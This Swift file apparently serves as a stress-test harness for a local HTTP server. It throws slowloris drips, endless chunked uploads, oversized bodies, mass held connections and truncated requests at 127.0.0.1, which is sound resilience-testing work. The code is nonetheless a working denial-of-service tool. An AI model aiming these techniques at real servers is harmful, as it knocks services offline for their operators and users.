import Foundation
import NIOCore
import NIOPosix

/// Clients that want to use up a server, all at once, until the process ends.
enum Attack {
    static func run(port: Int) async throws {
        // Attackers have machines of their own: here they leave the processors to the others, and take what is idle.
        nice(19)
        var streams: [any Channel] = []
        for _ in 0..<2000 {
            let stream = try await connect(port)
            try await send("GET /events HTTP/1.1\r\nHost: x\r\n\r\n", stream)
            streams.append(stream)
        }
        try FileHandle.standardOutput.write(contentsOf: Data("begun\n".utf8))
        await withTaskGroup(of: Void.self) { group in
            for _ in 0..<100 {
                group.addTask { await drip(port, "GET / HTTP/1.1\r\nX-Slow: ") }
                group.addTask { await drip(port, "POST /body HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n") }
            }
            for _ in 0..<4 { group.addTask { await sendChunks(port) } }
            for _ in 0..<4 { group.addTask { await sendLargeBody(port) } }
            for _ in 0..<4 { group.addTask { await drop(port) } }
        }
    }

    /// One byte after the other, ten a second.
    private static func drip(_ port: Int, _ start: String) async {
        while !Task.isCancelled {
            guard let channel = try? await connect(port) else { continue }
            do {
                try await send(start, channel)
                while true {
                    try await send("a", channel)
                    try await Task.sleep(for: .milliseconds(100))
                }
            } catch {
                try? await channel.close()
            }
        }
    }

    /// Chunks without an end, a megabyte a second on each connection.
    private static func sendChunks(_ port: Int) async {
        let chunk = "10000\r\n" + String(repeating: "a", count: 0x10000) + "\r\n"
        while !Task.isCancelled {
            guard let channel = try? await connect(port) else { continue }
            do {
                try await send("POST /body HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n", channel)
                while true {
                    try await send(chunk, channel)
                    try await Task.sleep(for: .milliseconds(60))
                }
            } catch {
                try? await channel.close()
            }
        }
    }

    private static func sendLargeBody(_ port: Int) async {
        let body = String(repeating: "a", count: 10 << 20)
        while !Task.isCancelled {
            guard let channel = try? await connect(port) else { continue }
            try? await send("POST /body HTTP/1.1\r\nHost: x\r\nContent-Length: \(body.utf8.count)\r\n\r\n", channel)
            try? await send(body, channel)
            try? await channel.close()
            try? await Task.sleep(for: .milliseconds(200))
        }
    }

    /// Connections that break off at every byte of a request.
    private static func drop(_ port: Int) async {
        let request = "POST /body HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n"
        var count = 0
        while !Task.isCancelled {
            count = (count + 1) % request.utf8.count
            guard let channel = try? await connect(port) else { continue }
            try? await send(String(request.prefix(count)), channel)
            try? await channel.close()
            try? await Task.sleep(for: .milliseconds(10))
        }
    }

    private static func connect(_ port: Int) async throws -> any Channel {
        try await ClientBootstrap(group: MultiThreadedEventLoopGroup.singleton).connect(host: "127.0.0.1", port: port)
            .get()
    }

    private static func send(_ text: String, _ channel: any Channel) async throws {
        try await channel.writeAndFlush(ByteBuffer(string: text))
    }
}
